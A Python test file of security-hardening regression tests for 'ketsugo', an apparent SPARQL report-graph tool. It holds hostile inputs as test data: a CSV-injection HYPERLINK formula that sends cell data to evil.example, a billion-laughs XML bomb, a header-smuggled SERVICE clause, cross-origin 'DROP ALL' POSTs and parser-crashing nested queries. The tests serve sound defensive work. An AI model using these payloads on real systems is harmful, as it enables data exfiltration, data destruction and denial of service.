"""ketsugo tried by a hostile user (the attack session): what the other hardening tests did not
cover. Each test failed before its fix (the docstring says what happened)."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import threading
import urllib.parse
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

import ketsugo
from ketsugo.cli.main import _register_optional_commands, cli
from ketsugo.paths import ROOT
from ketsugo.sparql import server
from tests.conftest import ConnectionCounter

_register_optional_commands()
REPORT = ROOT / "data" / "reports" / "shinjuku-2020-gaibu-ketsugo.txt"
SRC = str(ROOT / "src")


def _invoke(*args: str) -> object:
    return CliRunner().invoke(cli, list(args))


# ------------------------------------------------------------------------------- file names


@pytest.mark.skipif(sys.platform != "linux", reason="file names as raw bytes (Linux file systems)")
def test_a_report_whose_file_name_is_not_utf8_builds(tmp_path: Path) -> None:
    """A report unpacked from a Windows zip keeps its Shift_JIS file name as raw bytes. Before: an
    internal error (exit 3: the name, with its undecodable byte, could not become an RDF literal)."""
    name = os.fsdecode(b"report \xff.txt")
    shutil.copy(REPORT, tmp_path / name)
    kg = ketsugo.build([tmp_path / name], municipality="131041")
    (report,) = kg.reports
    assert report["file"] == "report \\xff.txt"  # the byte shown escaped, the rest as it is


@pytest.mark.skipif(sys.platform != "linux", reason="file names as raw bytes (Linux file systems)")
def test_an_out_folder_whose_name_is_not_utf8_is_refused_before_any_work(tmp_path: Path) -> None:
    """The store (RocksDB) takes only UTF-8 paths. Before: an internal error (exit 3) after reading
    the reports."""
    out = tmp_path / os.fsdecode(b"out\xfe")
    result = _invoke("build", str(REPORT), "--out", str(out), "-q")
    assert result.exit_code == 2, result.output  # type: ignore[attr-defined]
    assert "[--out]" in result.output and "UTF-8" in result.output  # type: ignore[attr-defined]
    assert os.listdir(tmp_path) == []


@pytest.mark.parametrize("beside", ["r.toml", "r.errata.toml"])
def test_a_toml_file_nested_a_hundred_thousand_deep_is_an_input_error(beside: str, tmp_path: Path) -> None:
    """`x = [[[[…]]]]`: Python's TOML reader recurses once per level. Before: an internal error
    (exit 3, RecursionError) for the metadata file and for the errata file beside a report."""
    shutil.copy(REPORT, tmp_path / "r.txt")
    deep = "[" * 100_000 + "]" * 100_000
    metadata = '[report]\nfile = "r.txt"\nmunicipality_code = "131041"\n'
    if beside == "r.toml":
        (tmp_path / "r.toml").write_text(metadata + f"x = {deep}\n", encoding="utf-8")
    else:
        (tmp_path / "r.toml").write_text(metadata, encoding="utf-8")
        (tmp_path / "r.errata.toml").write_text(f"x = {deep}\n", encoding="utf-8")
    result = _invoke("build", str(tmp_path / "r.txt"), "--out", str(tmp_path / "out"), "-q")
    assert result.exit_code == 2, result.output  # type: ignore[attr-defined]
    assert beside in result.output and "nested" in result.output  # type: ignore[attr-defined]
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("source", ["file", "stdin"])
def test_a_report_larger_than_any_report_is_refused_unread(
    source: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`yes | ketsugo build -` or a multi-gigabyte log given by mistake: before, read whole into
    memory (MemoryError, exit 3, under a memory limit; swapping without one). The limit is lowered
    here so that the test stays small."""
    import ketsugo.read.textio as textio

    monkeypatch.setattr(textio, "MAX_REPORT_BYTES", 10_000, raising=False)
    data = REPORT.read_bytes()
    assert len(data) > 10_000
    if source == "file":
        (tmp_path / "big.txt").write_bytes(data)
        args, name, stdin = [str(tmp_path / "big.txt")], "big.txt", None
    else:
        args, name, stdin = ["-"], "<stdin>", data
    result = CliRunner().invoke(
        cli, ["build", *args, "--municipality", "131041", "--out", str(tmp_path / "out"), "-q"], input=stdin
    )
    assert result.exit_code == 2, result.output
    assert name in result.output and "10,000 bytes" in result.output
    assert not (tmp_path / "out").exists()


# ------------------------------------------------------------------------------- parameters


def test_an_integer_parameter_of_thousands_of_digits_is_an_input_error(bundled_build: Path) -> None:
    """Before: an internal error (exit 3: Python refuses to read an integer of over 4,300 digits)."""
    result = _invoke(
        "query",
        "category-municipality-counts",
        "--store",
        str(bundled_build),
        "-p",
        "fiscal_year=" + "9" * 5000,
    )
    assert result.exit_code == 2, result.output  # type: ignore[attr-defined]
    assert "--param fiscal_year" in result.output  # type: ignore[attr-defined]
    assert len(result.output) < 1000  # type: ignore[attr-defined]  # the value is not printed whole


def test_an_overlong_name_is_refused_at_once_not_searched(bundled_build: Path) -> None:
    """A 100,000-character category: before, the search for close matches ran until the 30 s
    timeout stopped it, and the message blamed the query ("narrow the query")."""
    result = _invoke(
        "query", "recipients-of-category", "--store", str(bundled_build), "-p", "category=" + "x" * 100_000
    )
    assert result.exit_code == 2, result.output  # type: ignore[attr-defined]
    assert "--param category" in result.output and "characters" in result.output  # type: ignore[attr-defined]
    assert "did not finish" not in result.output  # type: ignore[attr-defined]


@pytest.mark.parametrize("source", ["file", "stdin"])
def test_a_query_text_larger_than_any_query_is_refused_unread(
    source: str, tmp_path: Path, bundled_build: Path
) -> None:
    """`yes | ketsugo sparql -` was read whole (MemoryError, exit 3); a 300 MB query file ran for
    minutes before any answer. A query is at most 16 MiB, as `ketsugo serve` takes."""
    text = "ASK {}" + " " * (17 * 1024 * 1024)
    if source == "file":
        query = tmp_path / "big.rq"
        query.write_text(text, encoding="utf-8")
        result = CliRunner().invoke(cli, ["sparql", str(query), "--store", str(bundled_build)])
    else:
        result = CliRunner().invoke(cli, ["sparql", "-", "--store", str(bundled_build)], input=text)
    assert result.exit_code == 2, result.output
    assert "16,777,216" in result.output


# ------------------------------------------------------------------------------- FROM


def test_a_from_clause_chooses_the_default_graph(bundled_build: Path) -> None:
    """`FROM <g>` makes <g> the default graph. Before: ignored — every graph was queried, so a
    question about one report (or a graph that does not exist) got the answers of all."""
    count = "SELECT (COUNT(*) AS ?n) DATASET WHERE { ?c a kg:Connection }"
    report = "https://w3id.org/ketsugo/graph/131041/2020"  # the bundled report's graph
    kg = ketsugo.open_build(bundled_build)
    assert (
        kg.sparql(count.replace("DATASET", ""))[0]["n"] == 22
    )  # 22 connections in section (2) of the report
    assert kg.sparql(count.replace("DATASET", f"FROM <{report}>"))[0]["n"] == 22
    assert kg.sparql(count.replace("DATASET", "FROM <urn:ketsugo:no-such-graph>"))[0]["n"] == 0
    result = _invoke(
        "sparql",
        "--store",
        str(bundled_build),
        "--format",
        "csv",
        count.replace("DATASET", "FROM <urn:x:none>"),
    )
    assert result.exit_code == 0 and result.output.split() == ["n", "0"], result.output  # type: ignore[attr-defined]


def _nested(depth: int) -> str:
    return "SELECT * WHERE { FILTER(" + "(" * depth + "1" + ")" * depth + ") }"


def test_a_deeply_nested_query_is_refused_not_a_crash(bundled_build: Path) -> None:
    """5,000 nested brackets overflow the engine's parser stack: before, a library user's Python
    died of a segmentation fault (ketsugo.open_build(...).sparql), and the command said "internal
    error" (exit 3) after its query child died. The test runs the library call in a child process,
    so that the fault it guards against cannot end the test run."""
    from ketsugo.sparql.text import QueryError

    script = (
        "import sys, ketsugo\n"
        "from ketsugo.sparql.text import QueryError\n"
        f"kg = ketsugo.open_build({str(bundled_build)!r})\n"
        "try:\n"
        f"    kg.sparql({_nested(5000)!r})\n"
        "except QueryError as exc:\n"
        "    print(exc)\n"
        "    sys.exit(2)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "PYTHONPATH": SRC},
    )
    assert done.returncode == 2, (done.returncode, done.stderr[-500:])
    assert "nested" in done.stdout
    result = _invoke("sparql", "--store", str(bundled_build), _nested(5000))
    assert result.exit_code == 2, result.output  # type: ignore[attr-defined]
    assert "nested" in result.output  # type: ignore[attr-defined]
    assert ketsugo.open_build(bundled_build).sparql(_nested(50)) == [{}]  # an ordinary depth still runs
    with pytest.raises(QueryError):
        ketsugo.open_build(bundled_build).sparql(_nested(1000))


def _flooding_endpoint() -> tuple[socket.socket, int]:
    """A local "SPARQL endpoint" that answers every request with JSON results that never end."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)

    def serve() -> None:
        while True:
            try:
                conn, _ = listener.accept()
            except OSError:
                return
            try:
                conn.settimeout(10)
                request = b""
                while b"\r\n\r\n" not in request:
                    request += conn.recv(65536)
                head, _, body = request.partition(b"\r\n\r\n")
                length = next(
                    (
                        int(line.split(b":")[1])
                        for line in head.split(b"\r\n")
                        if line.lower().startswith(b"content-length:")
                    ),
                    0,
                )
                while len(body) < length:  # the whole request read: closing then sends no reset
                    body += conn.recv(65536)
                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/sparql-results+json\r\n\r\n")
                conn.sendall(b'{"head":{"vars":["x"]},"results":{"bindings":[')
                row = b'{"x":{"type":"literal","value":"' + b"a" * 1000 + b'"}},'
                for _ in range(20_000):  # 20 MB, far over the lowered limit, then the test is over
                    conn.sendall(row)
            except OSError:
                pass
            finally:
                conn.close()

    threading.Thread(target=serve, daemon=True).start()
    return listener, listener.getsockname()[1]


@pytest.mark.loopback
def test_an_endpoints_endless_answer_is_cut_off(monkeypatch: pytest.MonkeyPatch) -> None:
    """A hostile or broken endpoint streaming results without end: before, read whole into memory
    (gigabytes within the timeout; MemoryError, exit 3, with --timeout 0). The limit is lowered here."""
    import ketsugo.sparql.backends as backends

    monkeypatch.setattr(backends, "MAX_ANSWER_BYTES", 1_000_000, raising=False)
    listener, port = _flooding_endpoint()
    try:
        result = _invoke("sparql", "--endpoint", f"http://127.0.0.1:{port}", "--timeout", "0", "SELECT ?x {}")
    finally:
        listener.close()
    assert result.exit_code == 1, result.output  # type: ignore[attr-defined]  # an endpoint failed
    assert "larger than 1,000,000 bytes" in result.output  # type: ignore[attr-defined]


# ------------------------------------------------------------------------------- names


def test_an_invisible_character_inside_a_name_does_not_make_another_organisation(tmp_path: Path) -> None:
    """A zero-width space (copied from a web page or a PDF) inside 厚生労働省: before, a new
    organisation 「厚生\u200b労働省」 with the invisible character in its IRI, not the Ministry."""
    text = REPORT.read_text(encoding="utf-8").replace("厚生労働省", "厚生\u200b労働省")
    report = tmp_path / "zw.txt"
    report.write_text(text, encoding="utf-8")
    kg = ketsugo.build([report], municipality="131041")
    rows = kg.sparql(
        "SELECT ?w ?o WHERE { ?c kg:connectionNumber 11 ; kg:counterpartiesAsWritten ?w ; dpv:hasRecipient ?o }"
    )
    assert [(r["w"], r["o"]) for r in rows] == [("厚生\u200b労働省", "https://w3id.org/ketsugo/id/org/mhlw")]


# ------------------------------------------------------------------------------- HTML page


def test_a_name_cannot_end_or_comment_out_the_pages_script(tmp_path: Path) -> None:
    """A business name holding `<!--<script>` put the page's data script into the HTML parser's
    "double escaped" state, in which the real `</script>` does not end it: the page broke (only
    `</` was escaped). Now no `<` of the data reaches the script element."""
    text = REPORT.read_text(encoding="utf-8").replace(
        "特別定額給付金給付事業", "特別定額給付金給付事業<!--<script>", 1
    )
    report = tmp_path / "page.txt"
    report.write_text(text, encoding="utf-8")
    page = ketsugo.build([report], municipality="131041").export("html")
    assert "特別定額給付金給付事業" in page
    assert "<!--<script>" not in page and "<!--" not in page.split("<script", 2)[-1]


def test_a_flows_table_for_excel_runs_no_formula_from_the_report(tmp_path: Path) -> None:
    """A business name written `=HYPERLINK("http://…"&A1,"click")`: before, `export flows --excel`
    (the CSV made to be opened in Excel) handed it to Excel as a live formula (CSV injection).
    With --excel such a cell starts with an apostrophe (Excel shows the text, runs nothing);
    without it the cell stays as written."""
    import csv
    import io

    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    text = REPORT.read_text(encoding="utf-8").replace(
        "特別定額給付金給付事業に係る", formula + "特別定額給付金給付事業に係る", 1
    )
    report = tmp_path / "inj.txt"
    report.write_text(text, encoding="utf-8")
    build = tmp_path / "b"
    assert _invoke("build", str(report), "--municipality", "131041", "--out", str(build), "-q").exit_code == 0  # type: ignore[attr-defined]
    cells = {}
    for excel in (True, False):
        out = tmp_path / f"flows-{excel}.csv"
        flags = ["--excel"] if excel else []
        result = _invoke("export", "flows", "--store", str(build), *flags, "-o", str(out))
        assert result.exit_code == 0, result.output  # type: ignore[attr-defined]
        rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
        cells[excel] = {c for row in rows for c in row if "HYPERLINK" in c}
    assert cells[False] and all(c.startswith("=HYPERLINK") for c in cells[False])
    assert cells[True] and all(c.startswith("'=HYPERLINK") for c in cells[True])


# ------------------------------------------------------------------------------- the server


@pytest.fixture(scope="module")
def writable(tmp_path_factory: pytest.TempPathFactory) -> Iterator[int]:
    """`ketsugo serve --writable` on a copy of the bundled build."""
    from tests.conftest import bundled_build_dir

    copy = tmp_path_factory.mktemp("attack-serve") / "build"
    shutil.copytree(bundled_build_dir(), copy)
    port = server.free_port()
    process = subprocess.Popen(
        [sys.executable, "-m", "ketsugo", "serve", "--store", str(copy), "--port", str(port), "--writable"],
        env={**os.environ, "PYTHONPATH": SRC},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        stdin=subprocess.DEVNULL,
    )
    try:
        server.wait_until_ready(port, process, timeout=60)
        yield port
    finally:
        server.stop(process)


def _raw(port: int, head: list[str], body: bytes = b"") -> tuple[int, bytes]:
    """Send one request as written (headers in order, repeated ones too); status and body."""
    lines = [*head, f"Content-Length: {len(body)}", "", ""]
    with socket.create_connection((server.HOST, port), timeout=30) as sock:
        sock.sendall("\r\n".join(lines).encode("latin-1") + body)
        chunks = []
        while chunk := sock.recv(65536):
            chunks.append(chunk)
    answer = b"".join(chunks)
    status = int(answer.split(b" ", 2)[1])
    return status, answer.split(b"\r\n\r\n", 1)[-1]


def _count(port: int) -> int:
    query = urllib.parse.quote("SELECT (COUNT(*) AS ?n) WHERE { ?c a <https://w3id.org/ketsugo#Connection> }")
    status, body = _raw(port, [f"GET /query?query={query} HTTP/1.1", "Host: 127.0.0.1", "Accept: text/csv"])
    assert status == 200, body
    return int(body.split()[-1])


@pytest.mark.loopback
def test_a_second_content_type_does_not_smuggle_a_service_clause(writable: int) -> None:
    """The front door read the first Content-Type (text/plain: no query to check) and forwarded
    the last (a SPARQL query): Oxigraph ran the SERVICE clause and reached the listener."""
    listener = ConnectionCounter(0.5)
    query = f"SELECT * WHERE {{ SERVICE <http://127.0.0.1:{listener.port}/sparql> {{ ?s ?p ?o }} }}"
    head = [
        "POST /query HTTP/1.1",
        "Host: 127.0.0.1",
        "Content-Type: text/plain",
        "Content-Type: application/sparql-query",
    ]
    status, _ = _raw(writable, head, query.encode())
    assert status in (400, 403)
    assert listener.connections() == 0


@pytest.mark.parametrize(
    "headers",
    [
        ["Origin: http://evil.example"],  # a page of another site in the user's browser (CSRF)
        ["Origin: null"],  # a sandboxed frame or a file:// page
        ["Host: evil.example:7878"],  # a name of another site resolving to 127.0.0.1 (DNS rebinding)
    ],
)
@pytest.mark.loopback
def test_a_web_page_of_another_site_cannot_change_a_writable_server(
    writable: int, headers: list[str]
) -> None:
    """A browser sends a form POST to 127.0.0.1 from any page, without asking (no CORS
    preflight). Before: `update=DROP ALL` from a page of evil.example emptied the store (204)."""
    before = _count(writable)
    assert before == 22
    host = [] if any(h.startswith("Host:") for h in headers) else ["Host: 127.0.0.1"]
    head = [
        "POST /update HTTP/1.1",
        *host,
        *headers,
        "Content-Type: application/x-www-form-urlencoded",
    ]
    status, body = _raw(writable, head, b"update=DROP%20ALL")
    assert status == 403, body
    assert _count(writable) == before


@pytest.mark.loopback
def test_the_servers_own_page_and_local_clients_still_query(writable: int) -> None:
    """Oxigraph's query page (YASGUI, served at /) posts with the server's own origin."""
    for origin in (f"http://127.0.0.1:{writable}", f"http://localhost:{writable}"):
        head = [
            "POST /query HTTP/1.1",
            f"Host: localhost:{writable}",
            f"Origin: {origin}",
            "Content-Type: application/sparql-query",
            "Accept: application/sparql-results+json",
        ]
        status, body = _raw(writable, head, b"ASK {}")
        assert status == 200, body
    assert _count(writable) == 22


# ------------------------------------------------------------------------------- source files


_BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lolololololololololol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    + "]>"
)


def _workbook_with_shared_strings(path: Path, shared_strings: str) -> None:
    """The smallest .xlsx openpyxl opens: one sheet whose A1 is shared string 0."""
    import zipfile

    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    sheet_type = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{package}/content-types">'
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{sheet_type}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{sheet_type}.worksheet+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{sheet_type}.sharedStrings+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="rId1" '
        f'Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{rel}"><sheets>'
        '<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships">'
        f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId2" Type="{rel}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData><row r="1">'
        '<c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>',
        "xl/sharedStrings.xml": shared_strings,
    }
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)


def test_a_workbook_with_entity_expansion_is_an_input_error(tmp_path: Path) -> None:
    """A "billion laughs" sharedStrings.xml: expat stops the expansion (no memory blow-up), but the
    ParseError escaped as an internal error (exit 3) instead of naming the file (exit 2)."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    workbook = tmp_path / "laughs.xlsx"
    _workbook_with_shared_strings(
        workbook,
        _BILLION_LAUGHS + f'<sst xmlns="{main}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>',
    )
    result = _invoke("extract", str(workbook), "-o", str(tmp_path / "out.txt"))
    assert result.exit_code == 2, result.output  # type: ignore[attr-defined]
    assert "laughs.xlsx" in result.output and "internal error" not in result.output  # type: ignore[attr-defined]
    assert not (tmp_path / "out.txt").exists()


@pytest.mark.loopback
def test_the_server_refuses_a_deeply_nested_query_without_losing_oxigraph(writable: int) -> None:
    """Oxigraph's parser overflows its stack as ketsugo's does (its process dies and the front
    door restarts it, twice, answering 503): refused first, with the reason (400)."""
    head = ["POST /query HTTP/1.1", "Host: 127.0.0.1", "Content-Type: application/sparql-query"]
    status, body = _raw(writable, head, _nested(5000).encode())
    assert status == 400 and b"nested" in body, body
    assert _count(writable) == 22


@pytest.mark.loopback
def test_an_endpoints_cut_answer_is_an_endpoint_error() -> None:
    """JSON results that stop mid-way (a server that died, a proxy that cut it): before, the
    parse error surfaced only while the rows were read, outside the check — exit 3."""
    listener, port = _flooding_endpoint()  # 20 MB of rows, then the connection is closed
    try:
        result = _invoke("sparql", "--endpoint", f"http://127.0.0.1:{port}", "--timeout", "0", "SELECT ?x {}")
    finally:
        listener.close()
    assert result.exit_code == 1, result.output  # type: ignore[attr-defined]
    assert "unreadable SPARQL JSON results" in result.output  # type: ignore[attr-defined]


@pytest.mark.loopback
def test_a_negative_content_length_is_refused_not_read_to_the_end(writable: int) -> None:
    """`Content-Length: -1` passed the size limit and made the front door read until the client
    closed: a client streaming gigabytes filled its memory (1.1 GB after 300 MB sent)."""
    with socket.create_connection((server.HOST, writable), timeout=30) as sock:
        sock.sendall(
            b"POST /query HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/sparql-query\r\n"
            b"Content-Length: -1\r\n\r\nASK {}"
        )
        sock.shutdown(socket.SHUT_WR)  # the end of the body, for a reader that waits for it
        answer = b"".join(iter(lambda: sock.recv(65536), b""))
    assert answer.split(b" ", 2)[1] == b"400", answer
